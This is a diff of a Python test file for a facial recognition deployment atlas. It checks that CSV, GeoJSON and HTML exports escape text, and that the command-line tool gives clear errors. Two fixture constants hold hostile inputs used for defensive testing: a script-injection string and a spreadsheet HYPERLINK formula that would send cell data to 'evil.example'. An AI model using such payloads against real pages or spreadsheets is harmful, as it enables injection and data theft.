@@ -4,23 +4,20 @@ import csv
 import io
 import json
 from datetime import date
-from pathlib import Path
 
 import pytest
-
-from geo import schema
-from geo.citation import citation, data_version
-from geo.export import datapackage, to_csv, to_geojson
-from geo.filters import Filters, apply_filters, selection_sentence
-from geo.load import load_atlas, read_deployments
-from geo import snapshot
-from geo.snapshot_html import embed_code, snapshot_html
-from geo.mapdata import assign_colors
-from geo.validate import CountryIndex, DATA_DIR
-
 import synthetic
 
-HOSTILE = '</script><script>alert(1)</script>${x}`'
+from geo import schema, snapshot
+from geo.citation import citation, data_version
+from geo.export import datapackage, to_csv, to_geojson
+from geo.filters import Filters, apply_filters, build_vocabulary, selection_sentence, year_bounds
+from geo.load import load_atlas, read_deployments
+from geo.mapdata import assign_colors
+from geo.snapshot_html import embed_code, snapshot_html
+from geo.validate import DATA_DIR, CountryIndex
+
+HOSTILE = "</script><script>alert(1)</script>${x}`"
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
 
 
@@ -37,7 +34,9 @@ def comparable(frame):
 @pytest.fixture
 def rich_atlas(tmp_path):
     features = synthetic.deployments()
-    features[0]["properties"]["sources"].append({**synthetic.source(2), "quote": 'He said "no; never", twice, ' + HOSTILE})
+    features[0]["properties"]["sources"].append(
+        {**synthetic.source(2), "quote": 'He said "no; never", twice, ' + HOSTILE}
+    )
     features[1]["properties"]["description"] = "Line one,\nline two; with, commas"
     features[2]["properties"]["name"] = FORMULA
     features[2]["properties"]["operator"] = "'=already quoted"
@@ -74,7 +73,9 @@ def is_number(text):
 
 def test_csv_is_readable(rich_atlas):
     header, first = to_csv(rich_atlas.deployments).splitlines()[:2]
-    assert header.startswith("id,name,place,country,precision,vendors,operator,sectors,status,year_start,year_end,cameras")
+    assert header.startswith(
+        "id,name,place,country,precision,vendors,operator,sectors,status,year_start,year_end,cameras"
+    )
     assert "source2_quote" in header
     airport = [line for line in to_csv(rich_atlas.deployments).splitlines() if line.startswith("aa-airport")][0]
     assert "acme; bolt" in airport
@@ -87,10 +88,14 @@ def test_datapackage_describes_every_field_and_the_shipped_one_is_current():
     resources = {r["name"]: r for r in package["resources"]}
     assert [f["name"] for f in resources["vendors"]["schema"]["fields"]] == list(schema.VENDOR_FIELD_NAMES)
     outlines = json.loads((DATA_DIR / "countries.geojson").read_text())["features"]
-    assert {f["name"] for f in resources["countries"]["schema"]["fields"]} == {k for f in outlines for k in f["properties"]}
+    assert {f["name"] for f in resources["countries"]["schema"]["fields"]} == {
+        k for f in outlines for k in f["properties"]
+    }
     assert package["licenses"][0]["name"] == "CC-BY-4.0"
     shipped = json.loads((DATA_DIR / "datapackage.json").read_text())
-    assert shipped == datapackage(data_version(DATA_DIR)), "run: python -m geo.export to regenerate data/datapackage.json"
+    assert shipped == datapackage(data_version(DATA_DIR)), (
+        "run: python -m geo.export to regenerate data/datapackage.json"
+    )
 
 
 def test_data_version_changes_with_the_data(data_dir):
@@ -102,13 +107,23 @@ def test_data_version_changes_with_the_data(data_dir):
 
 def test_citation_names_project_version_view_link_and_date():
     text = citation("Showing 2 of 5 deployments: vendor Bolt AI", "http://h/?vendor=bolt", "abc123", date(2026, 11, 22))
-    assert text == ("Facial Recognition Atlas (data version abc123). Showing 2 of 5 deployments: vendor Bolt AI. "
-                    "http://h/?vendor=bolt. Retrieved 2026-11-22.")
+    assert text == (
+        "Facial Recognition Atlas (data version abc123). Showing 2 of 5 deployments: vendor Bolt AI. "
+        "http://h/?vendor=bolt. Retrieved 2026-11-22."
+    )
 
 
 def test_snapshot_html_is_self_contained_and_escapes_text(rich_atlas):
-    page = snapshot_html(rich_atlas.deployments, rich_atlas.countries, assign_colors(rich_atlas.deployments),
-                         rich_atlas.vendor_names, rich_atlas.country_names, title="T <b>", sentence=HOSTILE, citation="C")
+    page = snapshot_html(
+        rich_atlas.deployments,
+        rich_atlas.countries,
+        assign_colors(rich_atlas.deployments),
+        rich_atlas.vendor_names,
+        rich_atlas.country_names,
+        title="T <b>",
+        sentence=HOSTILE,
+        citation="C",
+    )
     assert "<script src" not in page and "<link" not in page and "https://cdn" not in page
     assert page.count("</script>") == 2  # only the two script elements the template opens
     assert "T &lt;b&gt;" in page
@@ -118,30 +133,49 @@ def test_snapshot_html_is_self_contained_and_escapes_text(rich_atlas):
 def test_cli_writes_what_the_app_would_for_the_same_filters(tmp_path, data_dir, capsys):
     out = tmp_path / "out"
     out.mkdir()
-    code = snapshot.main(["--data-dir", str(data_dir), "--vendor", "acme", "--from", "2016",
-                          "--csv", str(out / "s.csv"), "--geojson", str(out / "s.geojson"), "--html", str(out / "s.html"),
-                          "--png", str(out / "s.png")])
+    code = snapshot.main(
+        [
+            "--data-dir",
+            str(data_dir),
+            "--vendor",
+            "acme",
+            "--from",
+            "2016",
+            "--csv",
+            str(out / "s.csv"),
+            "--geojson",
+            str(out / "s.geojson"),
+            "--html",
+            str(out / "s.html"),
+            "--png",
+            str(out / "s.png"),
+        ]
+    )
     assert code == 0
     atlas = load_atlas(data_dir)
-    filters = Filters(vendors=("acme",), year_from=2016)
+    filters = Filters(vendors=("acme",), years=(2016, None))
     selection = apply_filters(atlas.deployments, filters)
     assert (out / "s.csv").read_text() == to_csv(selection)
     assert (out / "s.geojson").read_text() == to_geojson(selection)
     meta = json.loads((out / "s.csv-metadata.json").read_text())
-    sentence = selection_sentence(len(selection), 5, filters, atlas.vendor_names, atlas.country_names)
+    vocabulary = build_vocabulary(atlas, year_bounds(atlas.deployments))
+    sentence = selection_sentence(len(selection), 5, filters, vocabulary)
     assert sentence in meta["citation"] and "vendor=acme&from=2016" in meta["citation"]
     assert (out / "s.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
     assert sentence in (out / "s.html").read_text()
     assert sentence in capsys.readouterr().out
 
 
-@pytest.mark.parametrize("args,message", [
-    (["--vendor", "nobody", "--csv", "x.csv"], "vendor='nobody' (unknown vendor)"),
-    (["--from", "abc", "--csv", "x.csv"], "from='abc'"),
-    (["--vendor", "acme"], "nothing to write"),
-    (["--png-size", "10x10", "--png", "x.png"], "invalid choice"),
-    (["--csv", "/nonexistent-folder/x.csv"], "no such folder for the output: /nonexistent-folder"),
-])
+@pytest.mark.parametrize(
+    "args,message",
+    [
+        (["--vendor", "nobody", "--csv", "x.csv"], "vendor='nobody' (no deployment by this vendor)"),
+        (["--from", "abc", "--csv", "x.csv"], "from='abc'"),
+        (["--vendor", "acme"], "nothing to write"),
+        (["--png-size", "10x10", "--png", "x.png"], "invalid choice"),
+        (["--csv", "/nonexistent-folder/x.csv"], "no such folder for the output: /nonexistent-folder"),
+    ],
+)
 def test_cli_bad_arguments_give_a_clear_message_and_exit_2(args, message, data_dir, capsys):
     with pytest.raises(SystemExit) as exit_info:
         snapshot.main(["--data-dir", str(data_dir), *args])
